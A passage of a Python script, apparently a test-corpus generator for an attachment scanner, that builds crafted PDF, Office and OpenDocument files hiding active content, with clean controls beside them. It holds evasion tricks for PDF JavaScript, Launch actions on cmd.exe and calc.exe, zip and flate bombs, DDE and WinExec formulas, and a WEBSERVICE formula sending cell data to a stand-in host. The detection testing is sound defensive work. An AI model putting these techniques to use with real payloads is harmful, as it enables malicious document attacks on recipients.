#!/usr/bin/env python3
"""Writes the crafted attachment corpus (issue 22): files that hide active content in the ways a reliability probe
found (attivi/), files that must be accepted (puliti/), and what each active file must be flagged for (attesi.tsv).
Run from anywhere: python3 tests/allegati/genera.py. Deterministic: same script, same bytes."""
import io, os, re, struct, zipfile, zlib, shutil

QUI = os.path.dirname(os.path.abspath(__file__))
ATTESI = []


def scrivi(cartella, nome, dati, atteso=None):
    os.makedirs(os.path.join(QUI, cartella), exist_ok=True)
    with open(os.path.join(QUI, cartella, nome), 'wb') as f:
        f.write(dati)
    if atteso:
        ATTESI.append(f"{nome}\t{atteso}")


# ---------- PDF ----------
def pdf(*oggetti, coda=b"trailer\n<< /Root 1 0 R >>\n%%EOF\n", testa=b"%PDF-1.7\n", compressi=None):
    """Objects 1, 2, … in order. With `compressi` [(object, object stream, index)], a cross-reference stream
    names every object, those in object streams included, so that a reader (qpdf) reaches them as in a real file."""
    b = testa
    posizioni = {}
    for i, o in enumerate(oggetti, 1):
        posizioni[i] = len(b)
        b += f"{i} 0 obj\n".encode() + o + b"\nendobj\n"
    if compressi is None:
        return b + coda
    return b + xref(posizioni, compressi, len(b))


def xref(posizioni, compressi, inizio, radice=1):
    """A cross-reference stream (ISO 32000-1 §7.5.8) written at `inizio`, /W [1 4 2]."""
    voci = {n: (1, o, 0) for n, o in posizioni.items()}
    voci.update({n: (2, stm, i) for n, stm, i in compressi})
    numero = max(voci) + 1
    voci[numero] = (1, inizio, 0)
    dati = b"".join(struct.pack(">BIH", *voci.get(n, (0, 0, 0))) for n in range(numero + 1))
    return (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n" % (numero, numero + 1, radice, len(dati))
            + dati + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % inizio)


def oggetto(n, corpo, testa=None):
    return (testa if testa is not None else b"%d 0 obj\n" % n) + corpo + b"\nendobj\n"


def grezzo(*parti, radice=1, compressi=None):
    """Objects as written (`oggetto`), in order; with `compressi`, a cross-reference stream as in `pdf`."""
    b = b"%PDF-1.7\n"
    posizioni = {}
    for parte in parti:
        m = re.match(rb"(\d+)\D", parte)
        if m:
            posizioni[int(m.group(1))] = len(b)
        b += parte
    if compressi is None:
        return b + b"trailer\n<< /Root %d 0 R >>\n%%%%EOF\n" % radice
    return b + xref(posizioni, compressi, len(b), radice)


def flusso(dizionario, dati):
    return dizionario.replace(b">>", b" /Length %d >>" % len(dati), 1) + b"\nstream\n" + dati + b"\nendstream"


def objstm(oggetti, filtro=b"/FlateDecode", codifica=zlib.compress, parametri=b""):
    testa, corpo = b"", b""
    for num, o in oggetti:
        testa += b"%d %d " % (num, len(corpo))
        corpo += o + b"\n"
    dati = codifica(testa + corpo)
    return flusso(b"<< /Type /ObjStm /N %d /First %d /Filter %s %s>>" % (len(oggetti), len(testa), filtro, parametri), dati)


CATALOGO = b"<< /Type /Catalog /Pages 2 0 R >>"
# A catalog whose open action is object 3, kept in the object stream that is object 2.
APRE_3 = b"<< /Type /Catalog /OpenAction 3 0 R >>"
NEL_2 = [(3, 2, 0)]
PAGINE = b"<< /Type /Pages /Kids [] /Count 0 >>"
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"

scrivi("attivi", "pdf_stream_in_un_commento.pdf",
       b"%PDF-1.7\n%stream\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj\n" + JS +
       b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "JavaScript")
scrivi("attivi", "pdf_stream_in_una_stringa.pdf",
       pdf(b"<< /Type /Catalog /Title (stream) /OpenAction 2 0 R >>", JS), "JavaScript")
scrivi("attivi", "pdf_oggetto_dentro_una_stringa.pdf",
       pdf(CATALOGO, b"(5 0 obj " + JS + b" endobj)"), "JavaScript")
scrivi("attivi", "pdf_nome_con_escape.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S /J#61va#53cript /J#53 (x) >> >>"), "JavaScript")
scrivi("attivi", "pdf_objstm_asciihex.pdf",
       pdf(APRE_3, objstm([(3, JS)], b"/ASCIIHexDecode", lambda d: d.hex().encode() + b">"), compressi=NEL_2), "JavaScript")


def a85(d):
    import base64
    return base64.a85encode(d) + b"~>"


scrivi("attivi", "pdf_objstm_catena_di_filtri.pdf",
       pdf(APRE_3, objstm([(3, JS)], b"[/ASCII85Decode /FlateDecode]", lambda d: a85(zlib.compress(d))), compressi=NEL_2), "JavaScript")


def png_up(d, colonne=5):
    righe = [d[i:i + colonne].ljust(colonne, b" ") for i in range(0, len(d), colonne)]
    out, sopra = b"", bytes(colonne)
    for r in righe:
        out += b"\x02" + bytes((r[i] - sopra[i]) % 256 for i in range(colonne))
        sopra = r
    return out


scrivi("attivi", "pdf_objstm_predittore_png.pdf",
       pdf(APRE_3, objstm([(3, JS)], b"/FlateDecode", lambda d: zlib.compress(png_up(d)),
                          b"/DecodeParms << /Predictor 12 /Columns 5 >> "), compressi=NEL_2), "JavaScript")


scrivi("attivi", "pdf_javascript_dopo_64_mib.pdf",
       pdf(APRE_3, objstm([(3, b" " * (64 * 1024 * 1024 + 10) + JS)], b"/FlateDecode", lambda d: zlib.compress(d, 9)),
           compressi=NEL_2), "JavaScript")
for s, parola in [(b"/URI /URI (http://esempio.invalid/)", "appena viene aperto"),
                  (b"/SubmitForm /F (http://esempio.invalid/)", "inviano dati"),
                  (b"/GoToR /F (altro.pdf) /D [0 /Fit]", "aprono altri file")]:
    nome = s.split()[0][1:].decode().lower()
    scrivi("attivi", f"pdf_openaction_{nome}.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S " + s + b" >> >>"), parola)
scrivi("attivi", "pdf_openaction_uri_per_riferimento.pdf",
       pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", b"<< /S /URI /URI (http://esempio.invalid/) >>"), "appena viene aperto")
scrivi("attivi", "pdf_embeddedfiles_senza_tipo.pdf",
       pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >> >>", b"<< /F (a.exe) >>"),
       "altri file")
scrivi("attivi", "pdf_annotazione_file_allegato.pdf",
       pdf(CATALOGO, PAGINE, b"<< /Type /Annot /Subtype /FileAttachment /FS 4 0 R >>", b"<< /Type /Filespec /F (x) >>"),
       "altri file")
scrivi("attivi", "pdf_launch.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "avvia programmi")
scrivi("attivi", "pdf_azioni_automatiche.pdf", pdf(b"<< /Type /Catalog /AA << /O 2 0 R >> >>", b"<< /S /GoTo /D [0 /Fit] >>"),
       "azioni automatiche")
scrivi("attivi", "pdf_acroform.pdf", pdf(b"<< /Type /Catalog /AcroForm << /Fields [] >> >>"), "campi compilabili")
scrivi("attivi", "pdf_richmedia.pdf", pdf(CATALOGO, b"<< /Type /Annot /Subtype /RichMedia >>"), "multimediali")
scrivi("attivi", "pdf_intestazione_spostata.pdf", b"x" * 500 + pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", JS), "JavaScript")
scrivi("attivi", "pdf_cifrato.pdf", pdf(CATALOGO, coda=b"trailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard >> >>\n%%EOF\n"), "cifrato")
# Many stream/endstream pairs (quadratic for a reader that looks back for each), then JavaScript.
molti = [b"%d 0 obj\n<< /Length 1 >>\nstream\nx\nendstream\nendobj\n" % (i + 10) for i in range(120_000)]
scrivi("attivi", "pdf_molti_stream.pdf",
       grezzo(oggetto(1, b"<< /Type /Catalog /OpenAction 2 0 R >>"), oggetto(2, JS), *molti, compressi=[]), "JavaScript")


def bomba(n):
    c = zlib.compressobj(9)
    return c.compress(b"/" * n) + c.flush()


bombe = [objstm([], b"/FlateDecode", lambda d: bomba(40 * 1024 * 1024)) for _ in range(5)]
scrivi("attivi", "pdf_bomba_in_cinque_flussi.pdf", pdf(CATALOGO, *bombe), "per intero")
# Stream data whose /Length is wrong hides no object: it is read up to endstream.
scrivi("attivi", "pdf_lunghezza_falsa.pdf",
       pdf(b"<< /Type /Catalog /OpenAction 3 0 R >>", b"<< /Length 999999 >>\nstream\nabc\nendstream", JS), "JavaScript")

contenuto = zlib.compress(b"BT /F1 12 Tf (Ricevuta di pagamento: JavaScript e stream sono solo parole) Tj ET")
scrivi("puliti", "pdf_semplice.pdf", pdf(CATALOGO, PAGINE))
scrivi("puliti", "pdf_pagina_compressa.pdf", pdf(CATALOGO, PAGINE, flusso(b"<< /Filter /FlateDecode >>", contenuto)))
scrivi("puliti", "pdf_link_con_un_clic.pdf",
       pdf(CATALOGO, PAGINE, b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.agenziaentrate.gov.it) >> >>"))
scrivi("puliti", "pdf_apertura_su_una_pagina.pdf", pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGINE,
                                                       b"<< /Type /Page /Parent 2 0 R >>"))
scrivi("puliti", "pdf_objstm_senza_azioni.pdf",
       pdf(CATALOGO, objstm([(3, b"<< /Type /Page /Parent 2 0 R >>"), (4, b"<< /Font 5 0 R >>")], b"/FlateDecode",
                            lambda d: zlib.compress(png_up(d)), b"/DecodeParms << /Predictor 12 /Columns 5 >> "), PAGINE))
scrivi("puliti", "pdf_immagine.pdf", pdf(CATALOGO, flusso(b"<< /Subtype /Image /Filter /DCTDecode >>", b"\xff\xd8\xff obj /JS")))


# ---------- ZIP packages ----------
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TIPI = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>{}</Types>')
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def override(parte, tipo):
    return f'<Override PartName="/{parte}" ContentType="{tipo}"/>'


def pacchetto(parti, memorizzati=("mimetype",)):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for nome, dati in parti:
            info = zipfile.ZipInfo(nome, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if nome in memorizzati else zipfile.ZIP_DEFLATED
            z.writestr(info, dati.encode() if isinstance(dati, str) else dati)
    return buf.getvalue()


def rels(*r, virgolette='"'):
    q = virgolette
    corpo = "".join(f"<Relationship Id={q}rId{i}{q} Type={q}{R}/{t}{q} Target={q}{d}{q}{' TargetMode=' + q + 'External' + q if e else ''}/>"
                    for i, (t, d, e) in enumerate(r))
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{corpo}</Relationships>'


def docx(documento=f"<w:document {W}><w:body><w:p><w:r><w:t>Testo</w:t></w:r></w:p></w:body></w:document>", altre=(), tipi="",
         principale="word/document.xml"):
    return pacchetto([("[Content_Types].xml", TIPI.format(override(principale, DOC_MAIN) + tipi)),
                      ("_rels/.rels", rels(("officeDocument", principale, False))),
                      (principale, documento), *altre])


CAMPO = f"<w:document {W}><w:body><w:p><w:r><w:instrText> DATE </w:instrText></w:r></w:p></w:body></w:document>"
scrivi("attivi", "docx_oleobject_esterno.docx",
       docx(altre=[("word/_rels/document.xml.rels", rels(("oleObject", "mhtml:http://esempio.invalid/x.html!", True)))]), "fuori dal file")
scrivi("attivi", "docx_frame_in_websettings.docx",
       docx(altre=[("word/_rels/webSettings.xml.rels", rels(("frame", "http://esempio.invalid/", True)))]), "fuori dal file")
scrivi("attivi", "docx_modello_remoto_apici_singoli.docx",
       docx(altre=[("word/_rels/settings.xml.rels", rels(("attachedTemplate", "http://esempio.invalid/t.dotm", True), virgolette="'"))]),
       "fuori dal file")
scrivi("attivi", "docx_modello_remoto_utf16.docx",
       docx(altre=[("word/_rels/settings.xml.rels", b"\xff\xfe" + rels(("attachedTemplate", "http://esempio.invalid/t.dotm", True)).replace(
           'version="1.0"?', 'version="1.0" encoding="UTF-16"?').encode("utf-16-le"))]), "fuori dal file")
scrivi("attivi", "docx_campo_nell_intestazione.docx",
       docx(altre=[("word/header1.xml", CAMPO.replace("w:document", "w:hdr"))],
            tipi=override("word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")), "campi")
scrivi("attivi", "docx_campo_parte_principale_rinominata.docx", docx(CAMPO, principale="word/principale.xml"), "campi")
scrivi("attivi", "docx_campo_altro_prefisso.docx", docx(CAMPO.replace("w:", "x:").replace("xmlns:w", "xmlns:x")), "campi")
scrivi("attivi", "docx_campo_utf16.docx", docx("\ufeff" + CAMPO), "campi")
scrivi("attivi", "docx_campo_utf16_vero.docx", docx(b"\xff\xfe" + CAMPO.encode("utf-16-le")), "campi")
scrivi("attivi", "docx_vba_tipo_con_entita.docx",
       docx(altre=[("word/dati.bin", b"\xd0\xcf\x11\xe0")], tipi=override("word/dati.bin", "application/vnd.ms-office.vba&#80;roject")),
       "macro")
scrivi("attivi", "xlsx_macro_excel4_in_worksheets.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN) +
                                                       override("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                  ("xl/worksheets/sheet2.xml", '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')]),
       "Excel 4")
scrivi("attivi", "xlsx_auto_open.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
                                      '<definedName name="_xlnm.Auto_Open">Foglio2!$A$1</definedName></definedNames></workbook>')]),
       "Excel 4")
scrivi("attivi", "xlsx_collegamento_esterno_dde.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                  ("xl/externalLinks/externalLink1.xml",
                   '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')]),
       "collegamenti")
scrivi("attivi", "xlsx_connessioni.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN) + override(
           "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                  ("xl/connections.xml", '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q"/></connections>')]),
       "collegamenti")
scrivi("attivi", "docx_altchunk_mht.docx",
       docx(altre=[("word/_rels/document.xml.rels", rels(("aFChunk", "pagina.mht", False))), ("word/pagina.mht", "MIME-Version: 1.0")]),
       "importa contenuti")
scrivi("attivi", "docx_ole_con_altro_nome.docx",
       docx(altre=[("word/media/dati.bin", b"\xd0\xcf\x11\xe0"), ("word/_rels/document.xml.rels", rels(("oleObject", "media/dati.bin", False)))],
            tipi=override("word/media/dati.bin", "application/vnd.openxmlformats-officedocument.oleObject")), "oggetti")
scrivi("attivi", "docx_activex.docx",
       docx(altre=[("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")]), "ActiveX")


def sovrapposto(n=2000):
    """n central-directory entries, all pointing at one local header whose data inflates to 100 MB."""
    dati = bomba(100 * 1024 * 1024)[2:-4]  # raw deflate
    crc = zlib.crc32(b"/" * (100 * 1024 * 1024))
    nome = b"word/document.xml"
    locale = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(dati), 100 * 1024 * 1024, len(nome), 0) + nome + dati
    centrale = b""
    for i in range(n):
        nome_i = b"word/parte%05d.xml" % i
        centrale += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(dati), 100 * 1024 * 1024,
                                len(nome_i), 0, 0, 0, 0, 0, 0) + nome_i
    fine = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(centrale), len(locale), 0)
    return locale + centrale + fine


scrivi("attivi", "zip_voci_sovrapposte.docx", sovrapposto(), "sovrapposte")

scrivi("puliti", "docx_semplice.docx",
       docx(altre=[("word/_rels/document.xml.rels", rels(("hyperlink", "https://www.agenziaentrate.gov.it", True)))]))
scrivi("puliti", "xlsx_con_formule.xlsx",
       pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))),
                  ("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>'),
                  ("xl/worksheets/sheet1.xml", '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>SUM(1,2)</f></c></row></sheetData></worksheet>')]))

# ---------- OpenDocument ----------
ODT = "application/vnd.oasis.opendocument.text"
NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')


def odf(contenuto="<text:p>Testo</text:p>", altre=(), tipo=ODT, corpo="text"):
    return pacchetto([("mimetype", tipo),
                      ("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                                                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'),
                      ("content.xml", f'<office:document-content {NS}><office:body><office:{corpo}>{contenuto}</office:{corpo}></office:body></office:document-content>'),
                      *altre])


EVENTO = '<ev:event-listener xmlns:ev="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ev:event-name="dom:load" ev:language="ooo:script" xlink:href="x"/>'
scrivi("attivi", "odt_evento_altro_prefisso.odt", odf(f"<office:event-listeners>{EVENTO}</office:event-listeners>"), "eventi")
scrivi("attivi", "odt_evento_utf16.odt",
       odf(altre=[("styles.xml", b"\xff\xfe" + f'<office:document-styles {NS}>{EVENTO}</office:document-styles>'.encode("utf-16-le"))]), "eventi")
scrivi("attivi", "odt_evento_in_settings.odt",
       odf(altre=[("settings.xml", f'<office:document-settings {NS}>{EVENTO}</office:document-settings>')]), "eventi")
scrivi("attivi", "odt_link_a_uno_script.odt",
       odf('<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document">clic</text:a></text:p>'),
       "macro")
scrivi("attivi", "ods_dde.ods",
       odf('<table:table><table:table-row><table:table-cell/></table:table-row></table:table><table:dde-links><table:dde-link/></table:dde-links>',
           tipo="application/vnd.oasis.opendocument.spreadsheet", corpo="spreadsheet"), "DDE")
scrivi("attivi", "odt_basic.odt", odf(altre=[("Basic/Standard/Module1.xml", "<script:module xmlns:script='x'/>")]), "macro")
scrivi("attivi", "odt_che_e_un_word_con_macro.odt",
       pacchetto([("mimetype", ODT),
                  ("[Content_Types].xml", TIPI.format(override("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
                  ("word/document.xml", f"<w:document {W}/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), "macro")

scrivi("puliti", "odt_semplice.odt", odf('<text:p>Vedi <text:a xlink:href="https://www.agenziaentrate.gov.it">il sito</text:a></text:p>'))
scrivi("puliti", "ods_semplice.ods",
       odf('<table:table><table:table-row><table:table-cell/></table:table-row></table:table>',
           tipo="application/vnd.oasis.opendocument.spreadsheet", corpo="spreadsheet"))


# ---------- Second round (issue 30): files read as their readers read them ----------
# PDF object headers with other white-space, long generations; object streams by any /Type; /Length, /Filter by
# reference; actions by reference and along /Next chains; budgets that every decoder draws from.
APRI_4 = oggetto(1, b"<< /Type /Catalog /OpenAction 4 0 R >>")
scrivi("attivi", "pdf_intestazione_con_nul_e_commenti.pdf", grezzo(APRI_4, oggetto(4, JS, b"4\x00%c\n0\x0c%x\nobj\n")), "JavaScript")
scrivi("attivi", "pdf_generazione_lunga.pdf", grezzo(APRI_4, oggetto(4, JS, b"4 " + b"0" * 30 + b" obj\n")), "JavaScript")


def objstm_con(dizionario, oggetti, codifica=zlib.compress):
    testa, corpo = b"", b""
    for num, o in oggetti:
        testa += b"%d %d " % (num, len(corpo))
        corpo += o + b"\n"
    dati = codifica(testa + corpo)
    return dizionario.replace(b"%FIRST", b"%d" % len(testa)).replace(b">>", b" /Length %d >>" % len(dati), 1) + \
        b"\nstream\n" + dati + b"\nendstream"


scrivi("attivi", "pdf_objstm_dichiarato_immagine.pdf",
       grezzo(APRI_4, oggetto(5, objstm_con(b"<< /Type /ObjStm /Subtype /Image /N 1 /First %FIRST /Filter /FlateDecode >>", [(4, JS)])), compressi=[(4, 5, 0)]),
       "JavaScript")
scrivi("attivi", "pdf_objstm_senza_tipo.pdf",
       grezzo(APRI_4, oggetto(5, objstm_con(b"<< /Type /XObject /N 1 /First %FIRST /Filter /FlateDecode >>", [(4, JS)])), compressi=[(4, 5, 0)]),
       "JavaScript")
scrivi("attivi", "pdf_objstm_filtro_per_riferimento.pdf",
       grezzo(APRI_4, oggetto(5, objstm_con(b"<< /Type /ObjStm /N 1 /First %FIRST /Filter 9 0 R >>", [(4, JS)])),
              oggetto(9, b"/FlateDecode"), compressi=[(4, 5, 0)]), "JavaScript")
scrivi("attivi", "pdf_objstm_filtro_abbreviato.pdf",
       grezzo(APRI_4, oggetto(5, objstm_con(b"<< /Type /ObjStm /N 1 /First %FIRST /F /FlateDecode >>", [(4, JS)])), compressi=[(4, 5, 0)]), "JavaScript")
# An uncompressed object stream whose /Length is given by reference and whose data holds the word endstream: a
# reader takes the length from object 9; a check that stops at the first endstream loses the JavaScript.
dentro = b"4 0 << /Title (endstream) /S /J#61vaScript /JS (app.alert(1)) >>\n"
scrivi("attivi", "pdf_lunghezza_indiretta_e_endstream_nei_dati.pdf",
       grezzo(APRI_4, oggetto(5, b"<< /Type /ObjStm /N 1 /First 4 /Length 9 0 R >>\nstream\n" + dentro + b"endstream"),
              oggetto(9, b"%d" % len(dentro)), compressi=[(4, 5, 0)]), "JavaScript")
scrivi("attivi", "pdf_tipo_azione_per_riferimento.pdf",
       grezzo(APRI_4, oggetto(4, b"<< /S 6 0 R /F (calc.exe) >>"), oggetto(6, b"/Launch")), "avvia programmi")
scrivi("attivi", "pdf_catena_next.pdf",
       grezzo(APRI_4, oggetto(4, b"<< /S /GoTo /D [3 0 R /Fit] /Next [ 5 0 R ] >>"),
              oggetto(5, b"<< /S /URI /URI (http://esempio.invalid/) >>")), "appena viene aperto")
scrivi("attivi", "pdf_thread_in_un_altro_file.pdf",
       grezzo(APRI_4, oggetto(4, b"<< /S /Thread /D 0 /F (altro.pdf) >>")), "aprono altri file")
scrivi("attivi", "pdf_named_per_riferimento.pdf",
       grezzo(APRI_4, oggetto(4, b"<< /S /Named /N 7 0 R >>"), oggetto(7, b"/Print")), "appena viene aperto")
scrivi("attivi", "pdf_ascii85_dopo_flate.pdf",
       grezzo(oggetto(1, CATALOGO),
              oggetto(5, flusso(b"<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /ASCII85Decode] >>",
                                zlib.compress(b"z" * (64 * 1024 * 1024), 9)))), "per intero")
lungo = b"[" + b" 0" * 30000 + b" ]"
coppie = b"".join(b"%d 0 " % (100 + i) for i in range(2000)) + b"4 %d " % len(lungo)
scrivi("attivi", "pdf_objstm_coppie_sullo_stesso_valore.pdf",
       grezzo(APRI_4, oggetto(5, flusso(b"<< /Type /ObjStm /N 2001 /First %d /Filter /FlateDecode >>" % len(coppie),
                                        zlib.compress(coppie + lungo + JS))), compressi=[(4, 5, 2000)]),
       "JavaScript")
larghi = b"".join(oggetto(100 + i, flusso(b"<< /Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 32 /BitsPerComponent 16 /Columns 1048576 >> >>",
                                          zlib.compress(b"\x02" + bytes(40)))) for i in range(4000))
scrivi("attivi", "pdf_predittori_larghi.pdf", grezzo(APRI_4, larghi, oggetto(4, JS)), "JavaScript")

FIRMA = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 100 200 100] /Contents <" +
         b"00" * 64 + b"> >>")
scrivi("puliti", "pdf_firmato_pades.pdf",
       grezzo(oggetto(1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] /SigFlags 3 >> >>"), oggetto(2, PAGINE),
              oggetto(3, b"<< /FT /Sig /T (Firma1) /V 4 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] >>"), oggetto(4, FIRMA)))

# Spreadsheet formulas that call out: DDE (`cmd|' /c …'!A0`), WEBSERVICE, CALL, in cells, names and validations.
FOGLIO = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</worksheet>'


def xlsx(foglio, cartella='<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="A" sheetId="1"/></sheets></workbook>'):
    return pacchetto([("[Content_Types].xml", TIPI.format(override("xl/workbook.xml", XL_MAIN))), ("xl/workbook.xml", cartella),
                      ("xl/worksheets/sheet1.xml", FOGLIO.format(foglio))])


FORMULE_ATTIVE = "avviano programmi"
scrivi("attivi", "xlsx_dde_in_una_cella.xlsx", xlsx("<sheetData><row><c r='A1'><f>cmd|' /C calc'!A0</f></c></row></sheetData>"), FORMULE_ATTIVE)
scrivi("attivi", "xlsx_dde_con_riferimento_a_carattere.xlsx",
       xlsx("<sheetData><row><c r='A1'><f>cmd&#124;' /C calc'!A0</f></c></row></sheetData>"), FORMULE_ATTIVE)
scrivi("attivi", "xlsx_webservice.xlsx",
       xlsx("<sheetData><row><c r='A1'><f>_xlfn.WEBSERVICE(\"http://esempio.invalid/?\"&amp;B1)</f></c></row></sheetData>"), FORMULE_ATTIVE)
scrivi("attivi", "xlsx_dde_in_un_nome.xlsx",
       xlsx("<sheetData/>", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
                            "<definedName name=\"x\">msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!_</definedName></definedNames></workbook>"),
       FORMULE_ATTIVE)
scrivi("attivi", "xlsx_call_in_una_convalida.xlsx",
       xlsx("<sheetData/><dataValidations count='1'><dataValidation type='custom' sqref='A1'><formula1>CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</formula1></dataValidation></dataValidations>"),
       FORMULE_ATTIVE)
scrivi("puliti", "xlsx_testo_che_cita_funzioni.xlsx",
       xlsx("<sheetData><row><c r='A1'><f>CONCATENATE(\"usa | e WEBSERVICE(\",\"x\")</f></c><c r='B1'><f>HYPERLINK(\"https://www.agenziaentrate.gov.it\")</f></c></row></sheetData>"))

# OpenDocument: formulas, and content loaded from outside when the document opens.
NS_ODF = NS + (' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
               ' xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"')
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def ods(celle, prima=""):
    return odf(f"{prima}<table:table><table:table-row>{celle}</table:table-row></table:table>", tipo=ODS, corpo="spreadsheet")


scrivi("attivi", "ods_formula_dde.ods",
       ods('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;file:///C:/dati.ods&quot;;&quot;Foglio1.A1&quot;)"/>'), FORMULE_ATTIVE)
scrivi("attivi", "ods_formula_webservice.ods",
       ods('<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://esempio.invalid/&quot;)"/>'), FORMULE_ATTIVE)
scrivi("attivi", "ods_formula_su_un_altro_file.ods",
       ods("<table:table-cell table:formula=\"of:=['file:///C:/segreto.ods'#$Foglio1.A1]\"/>"), "fuori dal file")
FUORI = "fuori dal file"
scrivi("attivi", "odt_immagine_collegata.odt",
       odf('<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xlink:href="http://esempio.invalid/a.png"/></draw:frame></text:p>'),
       FUORI)
scrivi("attivi", "odt_oggetto_su_una_cartella_di_rete.odt",
       odf('<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:object xlink:href="\\\\server\\condivisa\\x.ods"/></draw:frame></text:p>'),
       FUORI)
scrivi("attivi", "odt_sezione_collegata.odt",
       odf('<text:section text:name="s"><text:section-source xlink:href="file:///C:/segreto.odt"/></text:section>'), FUORI)
scrivi("attivi", "ods_tabella_collegata.ods",
       odf('<table:table><table:table-source xlink:href="http://esempio.invalid/dati.ods" table:mode="copy-all"/></table:table>', tipo=ODS, corpo="spreadsheet"),
       FUORI)
scrivi("attivi", "ods_intervallo_collegato.ods",
       ods('<table:table-cell><table:cell-range-source table:name="r" xlink:href="../dati.ods" table:last-row-spanned="1" table:last-column-spanned="1"/></table:table-cell>'),
       FUORI)
scrivi("attivi", "odt_ricarica_automatica.odt",
